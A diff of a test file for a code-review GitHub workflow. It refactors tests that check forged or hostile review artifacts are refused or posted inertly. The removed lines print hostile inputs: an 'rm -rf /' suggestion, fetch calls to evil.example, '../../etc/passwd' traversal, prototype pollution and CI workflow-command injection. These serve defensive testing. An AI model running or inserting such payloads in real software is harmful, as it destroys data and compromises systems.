@@ -11,6 +11,7 @@ import {
   WORKFLOW_TOKEN,
 } from '../emulators/github/github-emulator.ts';
 import { createReviewRepository, type ReviewRepository } from '../emulators/review-repository.ts';
+import { FORGED_PATCHES, UNREADABLE, withAttack, withFindings, withPatch } from './hostile-results.ts';
 import { runGitHubStep, workflowRunVariables } from './job-runs.ts';
 import { gitHubVariables, publishChange, sarifOf } from './reviewed-change.ts';
 
@@ -228,34 +229,9 @@ describe('the second workflow', () => {
 });
 
 describe('what nobody can tell the second workflow', () => {
-  it.each<[string, (result: ReturnType<typeof JSON.parse>) => unknown]>([
-    ['no JSON', () => '{"schemaVersion":1,'],
-    ['nothing', () => ''],
-    ['a list', () => []],
-    ['another version', (result) => ({ ...result, schemaVersion: 2 })],
-    ['a field too many', (result) => ({ ...result, 'x\n::error::y': 1 })],
-    ['70 MB of text', () => `"${'a'.repeat(70 << 20)}"`],
-    ['a million levels', () => `${'['.repeat(1_000_000)}${']'.repeat(1_000_000)}`],
-    [
-      'levels where text belongs',
-      (result) =>
-        JSON.stringify(result).replace(
-          '"rootCause":',
-          `"rootCause":${'['.repeat(50_000)}${']'.repeat(50_000)},"x":`,
-        ),
-    ],
-    ['__proto__ at the top', (result) => JSON.stringify(result).replace('{', '{"__proto__":{"polluted":1},')],
-    ['an id that leads elsewhere', (result) => withFinding(result, { id: '../../x' })],
-    ['an id of two lines', (result) => withFinding(result, { id: 'a\n::error::b' })],
-    ['one id twice', (result) => ({ ...result, findings: [result.findings[0], result.findings[0]] })],
-    [
-      'a line that is none',
-      (result) => withFinding(result, { location: { ...result.findings[0].location, startLine: -1 } }),
-    ],
-  ])('%s is refused in words with 2', async (_what, change) => {
+  it.each(UNREADABLE)('%s is refused in words with 2', async (_what, change) => {
     const artifact = await foundByFork();
-    const changed = change(JSON.parse(artifact));
-    const run = await secondRun(typeof changed === 'string' ? changed : JSON.stringify(changed));
+    const run = await secondRun(change(artifact));
     expect(run.exitCode).toBe(2);
     expect(run.log).toMatch(/artifact\/assay\.json (?:is|has)/);
     expect(run.log).not.toMatch(/^\s*::|\n\s+at |defect of Assay/);
@@ -266,28 +242,8 @@ describe('what nobody can tell the second workflow', () => {
 
   it('a hostile text anywhere is posted inert', async () => {
     const artifact = await foundByFork();
-    const attack =
-      'x -->\n<!-- assay:v1 k=summary id=- fp=- st=open cat=- tool=- body=- posted=- mac=- -->\n@octocat #1 fixes #2 https://evil.example ![a](https://evil.example/x.png)\n/close\n```suggestion\nrm -rf /\n```\n<img src=x>';
-    const hostile = JSON.parse(artifact, (key, value) =>
-      typeof value === 'string' &&
-      [
-        'message',
-        'text',
-        'why',
-        'rootCause',
-        'remediation',
-        'description',
-        'ruleId',
-        'ruleName',
-        'name',
-        'quote',
-      ].includes(key)
-        ? key === 'name' && value === 'assay'
-          ? value
-          : attack
-        : value,
-    );
-    const run = await secondRun(JSON.stringify(hostile));
+    const hostile = withAttack(artifact);
+    const run = await secondRun(hostile);
     expect(run.exitCode).toBe(0);
     expect(run.record?.problems).toEqual([]);
     expect(said().length).toBeGreaterThanOrEqual(2);
@@ -297,26 +253,13 @@ describe('what nobody can tell the second workflow', () => {
     }
     expect(run.log).not.toMatch(/^\s*::/m);
     const before = github.writes().length;
-    await secondRun(JSON.stringify(hostile));
+    await secondRun(hostile);
     expect(github.writes()).toHaveLength(before);
   });
 
-  it.each<[string, object, object]>([
-    ['a workflow', {}, { path: '.github/workflows/x.yml' }],
-    ['a path outside', {}, { path: '../../etc/passwd' }],
-    ['a file that another hash fits', {}, { before: 'a'.repeat(64) }],
-    ['another outcome than it is', {}, { after: 'b'.repeat(64) }],
-    ['lines far away', {}, { edits: [{ startLine: 1, lines: 1, newText: 'process.exit()\n' }] }],
-    ['a download', {}, { edits: [{ startLine: 5, lines: 1, newText: "fetch('https://evil.example');\n" }] }],
-    ['text of other lines too', { location: { path: '../../etc/passwd' } }, { path: '../../etc/passwd' }],
-  ])('a patch of %s is not suggested', async (_what, finding, patch) => {
+  it.each(FORGED_PATCHES)('a patch of %s is not suggested', async (_what, finding, patch) => {
     const artifact = await foundByFork();
-    const forged = JSON.parse(artifact);
-    const [first] = forged.findings.filter((each: { patch: unknown }) => each.patch !== null);
-    Object.assign(first.patch, patch);
-    const { location = {} } = finding as { location?: object };
-    Object.assign(first.location, location);
-    const run = await secondRun(JSON.stringify(forged));
+    const run = await secondRun(withPatch(artifact, finding, patch));
     expect(run.exitCode).toBe(0);
     for (const body of said()) {
       expect(body).not.toContain('```suggestion');
@@ -338,35 +281,17 @@ describe('what nobody can tell the second workflow', () => {
 
   it('100,000 findings are refused, or posted within every limit', { timeout: 120_000 }, async () => {
     const artifact = await foundByFork();
-    const many = JSON.parse(artifact);
-    const [one] = many.findings;
-    const small = { ...one, patch: null, tools: [{ ...one.tools[0], results: [] }], flow: [], related: [] };
-    small.verdict = { ...one.verdict, reasons: [{ code: 'REV.unknown', text: '', citations: [] }] };
-    Object.assign(small, {
-      fingerprints: {},
-      rootCause: null,
-      remediation: null,
-      message: '',
-      refusedPatches: [],
-    });
     const count = 10_000;
-    many.findings = Array.from({ length: count }, (_, at) => ({ ...small, id: `f${at}` }));
-    many.results = [];
-    const run = await secondRun(JSON.stringify(many));
+    const run = await secondRun(withFindings(artifact, count));
     expect(run.exitCode).toBe(0);
     expect(run.record?.counts.findings).toBe(count);
     expect(github.state.comments).toHaveLength(1);
     for (const body of said()) expect(body.length).toBeLessThan(65_536);
-    many.findings = Array.from({ length: 100_000 }, (_, at) => ({ ...small, id: `f${at}` }));
-    const refused = await secondRun(JSON.stringify(many));
+    const refused = await secondRun(withFindings(artifact, 100_000));
     expect(refused.exitCode).toBe(2);
     expect(refused.log).toContain('64 MiB');
   });
 });
-
-function withFinding(result: ReturnType<typeof JSON.parse>, change: object) {
-  return { ...result, findings: [{ ...result.findings[0], ...change }] };
-}
 
 it('the run of a fork outside of any CI is named by the operator and posted with a person’s token', async () => {
   const run = await publishChange({
